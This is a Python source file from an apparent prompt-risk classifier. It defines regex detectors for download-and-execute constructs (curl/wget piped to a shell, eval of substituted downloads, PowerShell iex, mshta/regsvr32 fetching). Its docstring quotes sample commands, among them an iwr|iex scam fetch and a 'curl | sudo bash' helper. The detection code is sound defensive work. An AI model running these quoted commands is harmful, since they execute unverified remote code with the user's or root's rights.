"""A download run as code without being read (the ``remote-code-floor`` rule of v34).

Why a floor of its own: every release to v33 missed a 13-year-old about to paste
``powershell -c "iwr http://rbx-gen.click/get.ps1 | iex"`` for free Robux (round 45), and the
routing corpus holds three more such prompts, all high (a ``curl -s "$1" | sudo bash``
deploy helper among them). The construct is named in security practice, not in any split:
CWE-494, download of code without an integrity check. A script fetched and handed straight
to an interpreter runs whatever the server sends that time, with the user's rights (or
root's, under ``sudo``); nobody reads it, no checksum or signature is compared. The code
hazard families (``loomc.risk.codehazards``) are classifier columns of every release since v7;
adding a family there would change what every shipped release decides, so this one is a rule
only a release that names it uses.

* ``remote-code:piped`` — on one line, a download (``curl``, ``wget``, PowerShell's ``iwr`` /
  ``irm`` / ``Invoke-WebRequest`` / ``Invoke-RestMethod``) piped, through any other commands,
  into a shell or script interpreter that reads its program from the pipe (``sh``, ``bash``,
  ``python``, ``iex`` ...). An interpreter given its own program (``python -m json.tool``,
  ``python -c '...'``, ``sh -c '...'``, ``node -e``) only reads the download as data: not this.
* ``remote-code:substituted`` — a download substituted into an interpreter's program:
  ``bash <(curl ...)``, ``sh -c "$(wget -O- ...)"``, ``eval "$(curl ...)"``,
  ``iex (New-Object Net.WebClient).DownloadString(...)``, ``iex (iwr ...)``.
* ``remote-code:lolbin`` — a Windows binary told to fetch and run a script from a URL
  (``mshta http...``, ``regsvr32 /i:http...``): the same construct under another name.

Official installers are written this way too (``curl ... | sh`` for rustup or nvm), and the
floor escalates them: running an unread download as root is what a reviewer is for, and a
harmless one costs one verification call. Over every row of ``evals/routing`` to round 45 it
fires on the four high prompts above and on no other row (``tests/risk/test_remote_code.py``).
"""

from __future__ import annotations

import re

from loomc.risk.memo import per_prompt
from loomc.risk.prescan import Prescanned, fold

_F = re.IGNORECASE

# Each compiled on first need (a process that never meets a download never pays for it) and
# tried only where one of its literals is in the prompt's fold (``loomc.risk.prescan``: the
# characters ``re.IGNORECASE`` reads as ASCII letters, a dotless ``ı`` or a long ``ſ``, folded
# as the pattern reads them).
_DOWNLOAD = Prescanned(
    r"(?<![\w.-])(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)(?![\w-])",
    _F,
    ("curl", "wget", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"),
)
# An interpreter that reads its program from standard input, after a pipe (and maybe sudo).
_PIPED_INTERPRETER = Prescanned(
    r"\|\s*(?:sudo\s+(?:-[\w-]+\s+)*)?(?:env\s+)?"
    r"(?:sh|bash|zsh|ksh|dash|ash|fish|python[\d.]*|perl|ruby|node|php|iex|invoke-expression"
    r"|powershell(?:\.exe)?|pwsh)(?![\w.-])"
    # given its own program, it reads the download as data
    r"(?!\s+(?:-[cemnp]|-ne|-pe|-command|--command|--eval)(?![\w-]))",
    _F,
    ("|",),
)
_SUBSTITUTED = Prescanned(
    r"(?:\b(?:sh|bash|zsh|ksh|source|python[\d.]*)|(?<![\w.])\.)\s+<\(\s*(?:curl|wget)\b"
    r"|\b(?:sh|bash|zsh|ksh)\s+-c\s+[\"']?\$\(\s*(?:curl|wget)\b"
    r"|\beval\s+[\"']?\$\(\s*(?:curl|wget)\b"
    r"|\b(?:iex|invoke-expression)\s*\(*\s*(?:\[[\w.]+\]\s*::\s*\w+\()?\s*\(*\s*"
    r"(?:new-object\s+(?:system\.)?net\.webclient|iwr|irm|invoke-webrequest|invoke-restmethod)\b"
    r"|\.downloadstring\([^)\n]{0,300}\)[^\n]{0,40}\|\s*(?:iex|invoke-expression)\b",
    _F,
    ("curl", "wget", "iex", "invoke-expression", "downloadstring"),
)
_LOLBIN = Prescanned(
    r"\bmshta(?:\.exe)?\s+[\"']?(?:https?://|vbscript:|javascript:)"
    r"|\bregsvr32(?:\.exe)?\b[^\n]{0,120}/i:\s*[\"']?https?://",
    _F,
    ("mshta", "regsvr32"),
)

REMOTE_CODE_NAMES: tuple[str, ...] = (
    "remote-code:piped",
    "remote-code:substituted",
    "remote-code:lolbin",
)


def _piped(prompt: str) -> bool:
    """A line where a download is followed, later on the same line, by a pipe into an
    interpreter that reads its program from the pipe. Line by line and from the first download
    only, so a long line costs one scan, not one per occurrence of a download's name."""
    download, interpreter = _DOWNLOAD.compiled, _PIPED_INTERPRETER.compiled
    for line in prompt.splitlines():
        if "|" not in line:
            continue
        found = download.search(line)
        if found is not None and interpreter.search(line, found.end()):
            return True
    return False


@per_prompt
def remote_code_floor(prompt: str) -> tuple[str, ...]:
    """The ``remote-code:*`` families ``prompt`` holds (see the module doc), in
    ``REMOTE_CODE_NAMES`` order; ``()`` for most prompts, which name no download at all."""
    folded = fold(prompt)
    found = (
        _DOWNLOAD.may_match(folded) and _PIPED_INTERPRETER.may_match(folded) and _piped(prompt),
        _SUBSTITUTED.may_match(folded) and _SUBSTITUTED.compiled.search(prompt) is not None,
        _LOLBIN.may_match(folded) and _LOLBIN.compiled.search(prompt) is not None,
    )
    return tuple(name for name, hit in zip(REMOTE_CODE_NAMES, found, strict=True) if hit)
